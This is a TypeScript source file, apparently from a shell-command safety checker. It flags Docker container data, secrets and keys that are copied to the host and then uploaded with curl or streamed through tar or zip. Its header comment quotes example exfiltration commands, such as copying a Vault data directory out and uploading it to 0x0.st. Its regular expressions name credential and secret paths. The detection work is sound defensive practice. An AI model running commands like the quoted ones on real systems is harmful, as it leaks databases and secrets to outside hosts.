/**
 * A container's data copied to the host and sent on by the next commands (R13/R17: `docker cp
 * vault-prod:/vault/data ./vaultdata && curl -F f=@vaultdata https://0x0.st`, `docker cp
 * prod-postgres:/var/lib/postgresql/data /tmp/pg && tar czf - /tmp/pg | curl -T - ...`). Only
 * container paths that hold data (data directories, /etc, home folders, secrets, dumps and keys)
 * are remembered; build output copied out (`/app/dist`, `/app/coverage`) and uploaded is publishing.
 */
import type { ShellWord } from './shell-words.js';

/** Container paths that hold a service's data, configuration or secrets. */
const DATA_PATH =
  /^\/(?:var\/lib|var\/opt|data|srv|vault|etc|root|home|backups?|dumps?|secrets?|run\/secrets|bitnami|opt\/[\w.-]+\/data)(?:\/|$)|(?:^|\/)(?:data|backups?|dumps?|secrets?|\.env[\w.-]*|\.ssh|\.aws)(?:\/|$)|\.(?:sql|dump|db|sqlite3?|bak|key|pem|p12|pfx|kdbx|rdb|aof)$/i;

/** A host path as the later commands name it (`./pg/` and `pg` are one). */
const norm = (p: string): string => p.replace(/^\.\//, '').replace(/\/+$/, '');

/** `docker [container] cp CTR:PATH DEST` copying data out: `[DEST, what]`, or undefined. */
export function copiedOut(cmd: readonly ShellWord[]): [string, string] | undefined {
  const words = cmd.map((w) => w.value).filter((w) => !w.startsWith('-'));
  let i = 1;
  if (words[i] === 'container') i++;
  if (words[i] !== 'cp') return undefined;
  const [from, to] = [words[i + 1], words[i + 2]];
  const m = from === undefined ? null : /^([\w.-]+):(\/.*)$/.exec(from);
  if (m === null || to === undefined || to === '-' || !DATA_PATH.test(m[2]!)) return undefined;
  return [norm(to), `files of the container ${m[1]!} (${m[2]!})`];
}

/** The copied path a word names (itself or a file below it), or undefined. */
function held(word: string, copied: ReadonlyMap<string, string>): string | undefined {
  const p = norm(word.replace(/^[\w-]*=?@/, '').replace(/;.*$/, ''));
  for (const [dest, what] of copied) if (p === dest || p.startsWith(`${dest}/`)) return what;
  return undefined;
}

/**
 * What a command sends of the copied paths, and where: curl's `-F x=@PATH`, `-T PATH`,
 * `--data-binary @PATH`; or, for an archiver writing to standard output (`tar czf - PATH`,
 * `zip -r - PATH`), `to` undefined: the pipeline carries it on; one writing a file names it as `archive`.
 */
export function sendsCopied(
  cmd: readonly ShellWord[],
  copied: ReadonlyMap<string, string>,
): { what: string; to?: string; archive?: string } | undefined {
  if (copied.size === 0) return undefined;
  const program = cmd[0]?.value.split('/').pop() ?? '';
  const args = cmd.slice(1).map((w) => w.value);
  if (program === 'curl') {
    let what: string | undefined;
    for (let j = 0; j < args.length && what === undefined; j++) {
      const a = args[j]!;
      const next = args[j + 1] ?? '';
      if (/^(?:-[a-zA-Z]*[FT]|--form|--upload-file|--data-binary|--data|-d)$/.test(a))
        what = /^-[a-zA-Z]*T$|^--upload-file$/.test(a) || next.includes('@') ? held(next, copied) : undefined;
      else if (/^--(?:form|upload-file|data-binary|data)=/.test(a))
        what = held(a.slice(a.indexOf('=') + 1), copied);
    }
    const to =
      args.find((a) => /^[a-z][a-z0-9+.-]*:\/\//i.test(a)) ?? args.filter((a) => !a.startsWith('-')).at(-1);
    return what !== undefined && to !== undefined ? { what, to } : undefined;
  }
  if (/^(?:tar|bsdtar|gtar|zip|7z|7za)$/.test(program)) {
    // The archive named after -f (tar) or first (zip): `-` is standard output, a file keeps the data.
    const f = args.findIndex((a) => /^-?[a-zA-Z]*f$/.test(a) && !a.startsWith('--'));
    const archive =
      program === 'zip' || program.startsWith('7z')
        ? args.find((a) => a === '-' || (!a.startsWith('-') && !/^[ax]$/.test(a)))
        : args[f + 1];
    const what = args.map((a) => (a === archive ? undefined : held(a, copied))).find((w) => w !== undefined);
    if (what === undefined || (archive === undefined && !args.includes('-'))) return undefined;
    return archive === undefined || archive === '-' ? { what } : { what, archive: norm(archive) };
  }
  return undefined;
}
